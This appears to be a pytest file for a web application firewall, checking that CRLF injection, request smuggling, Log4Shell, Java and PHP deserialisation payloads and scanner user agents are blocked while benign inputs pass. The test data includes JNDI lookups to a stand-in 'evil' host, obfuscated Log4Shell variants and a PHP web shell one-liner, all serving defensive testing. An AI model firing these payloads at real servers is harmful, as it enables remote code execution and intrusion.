"""Rule families about the protocol and platforms: CRLF/header injection, request
smuggling, Java deserialisation and Log4Shell, PHP object injection, scanners."""

from __future__ import annotations

import base64
import random
import string

import pytest

from bastion.edge.waf import HttpRequest
from bastion.edge.waf.operators import log4shell
from tests.edge.waf.rules_helper import BASE, UA, families, verdict, waf

ATTACKS = [
    ("crlf", "x\r\nSet-Cookie: admin=1", "query"),
    ("crlf", "%0d%0aLocation: http://evil", "query"),  # encoded twice by quote()
    ("crlf", "en\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK", "json"),
    ("crlf", "%0d%0aSet-Cookie:x=1", "header"),
    ("java", "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ", "cookie"),
    ("java", "aced00057372", "json"),
    ("java", "${jndi:ldap://evil/a}", "header"),
    ("java", "${${lower:j}ndi:${lower:l}dap://evil/a}", "query"),
    ("java", "${${::-j}${::-n}${::-d}${::-i}:rmi://evil/a}", "json"),
    ("java", "${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://e/a}", "header"),
    ("java", "%{(#_memberAccess['allowStaticMethodAccess']=true)}", "query"),
    ("php-object", 'O:8:"stdClass":1:{s:1:"a";s:1:"b";}', "cookie"),
    ("php-object", 'a:1:{i:0;O:7:"Example":0:{}}', "json"),
    ("php-object", "<?php system($_GET['c']); ?>", "form"),
]


@pytest.mark.parametrize(("family", "payload", "where"), ATTACKS,
                         ids=[f"{f}-{w}-{p[:30]}" for f, p, w in ATTACKS])
def test_attack_is_blocked(family: str, payload: str, where: str) -> None:
    v = verdict(payload, where)
    assert v.blocked and family in families(v), (v.score, v.matches)


@pytest.mark.parametrize("headers", [
    [("content-length", "4"), ("transfer-encoding", "chunked")],
    [("transfer-encoding", "xchunked")],
    [("transfer-encoding", " chunked")],
    [("transfer-encoding", "chunked\t")],
    [("content-length", "4"), ("content-length", "5")],
    [("transfer-encoding", "chunked"), ("transfer-encoding", "identity")],
])
def test_smuggling_signs_are_blocked(headers: list[tuple[str, str]]) -> None:
    v = waf().inspect(HttpRequest("POST", "/", [*BASE, *headers], b"0\r\n\r\n"))
    assert v.blocked and "smuggling" in families(v), v.matches


def test_a_second_request_in_the_body_is_blocked() -> None:
    body = b"0\r\n\r\nGET /admin HTTP/1.1\r\nHost: x\r\n\r\n"
    v = waf().inspect(HttpRequest("POST", "/", [*BASE, ("content-type", "text/plain")], body))
    assert v.blocked and "smuggling" in families(v)


@pytest.mark.parametrize("agent", [
    "sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.6)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "masscan/1.3", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "Mozilla/5.0 acunetix-wvs", "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)",
    "Fuzz Faster U Fool v2.1.0 ffuf",
])
def test_scanners_are_blocked(agent: str) -> None:
    v = waf().inspect(HttpRequest("GET", "/", [("host", "x"), ("user-agent", agent)]))
    assert v.blocked and families(v) == {"scanner"}, v.matches


BENIGN = [
    "line one\nline two", "Location: Paris, France", "We met in\nLocation: Paris",
    "Java is fun", "${HOME}/bin", "${aws:username}", "${aws:PrincipalTag/team}",
    "java.util.List", "O: 8 apples", "a:1:b", "rO0 is not a magic", "Café au lait",
    "curl/8.5.0", "python-requests/2.32", "okhttp/4.12.0",
]


@pytest.mark.parametrize("where", ["query", "form", "json", "header", "cookie"])
@pytest.mark.parametrize("payload", BENIGN)
def test_benign_passes(payload: str, where: str) -> None:
    v = verdict(payload, where)
    assert not v.blocked, v.matches


@pytest.mark.parametrize("agent", [UA, "curl/8.5.0", "Go-http-client/2.0", "Bastion-CLI/1"])
def test_ordinary_clients_pass(agent: str) -> None:
    v = waf().inspect(HttpRequest("GET", "/", [("host", "x"), ("user-agent", agent)]))
    assert not v.blocked


def test_jwts_and_base64_client_secrets_in_headers_pass() -> None:
    jwt = ("eyJhbGciOiJFUzI1NiIsImtpZCI6ImsxIn0.eyJzdWIiOiJ1MSIsInNjb3BlIjoib3BlbmlkIn0."
           "MEUCIQDx1p4wPjq6w_pPp4j0PtdM2kH4sYg6Pp4HlBNu3Jt5zQIgNxk")
    basic = base64.b64encode(b"my-client:s3cr3t+/==").decode()
    for auth in (f"Bearer {jwt}", f"Basic {basic}", f"DPoP {jwt}"):
        v = waf().inspect(HttpRequest("GET", "/userinfo", [*BASE, ("authorization", auth),
                                                           ("dpop", jwt)]))
        assert not v.blocked, v.matches


@pytest.mark.parametrize(("value", "found"), [
    ("${jndi:ldap://x}", True), ("${JNDI:ldap://x}", True),
    ("${${upper:j}ndi:x}", True), ("${${date:'j'}${date:'n'}di:x}", True),
    ("${aws:username}", False), ("${${aws:username}}", False), ("${", False),
    ("}}}${{{", False), ("$" * 10_000 + "{" * 10_000, False),
])
def test_log4shell_lookup_resolution(value: str, found: bool) -> None:
    assert (log4shell(value) is not None) is found


@pytest.mark.parametrize("payload", [
    base64.b64encode(b'O:8:"stdClass":1:{s:1:"a";s:1:"b";}').decode(),
    base64.b64encode(b'O:12:"Foo\\Barbazquu":1:{s:1:"a";i:1;}').decode(),
])
def test_base64_serialized_objects_are_blocked(payload: str) -> None:
    assert "php-object" in families(verdict(payload, "query"))


@pytest.mark.parametrize("token", [
    # random OAuth state/nonce/PKCE values that began with "tzo" + a digit's sextet, which the
    # base64 form of the rule used to match (a real refusal of GET /authorize in bench/run.py)
    "TZO4abcdefgh", "tzo0Xy_-12345", "TzoyQmFzZTY0", "tZo5OiAbCdEf",
])
def test_random_tokens_that_start_like_base64_objects_pass(token: str) -> None:
    assert "php-object" not in families(verdict(token, "query"))


def test_no_random_state_value_is_taken_for_a_serialized_object() -> None:
    rng = random.Random(20261205)
    alphabet = string.ascii_letters + string.digits + "-_"
    hits = [t for t in ("Tzo" + "".join(rng.choice(alphabet) for _ in range(rng.randint(5, 40)))
                        for _ in range(3000))
            if "php-object" in families(verdict(t, "query"))]
    assert hits == []
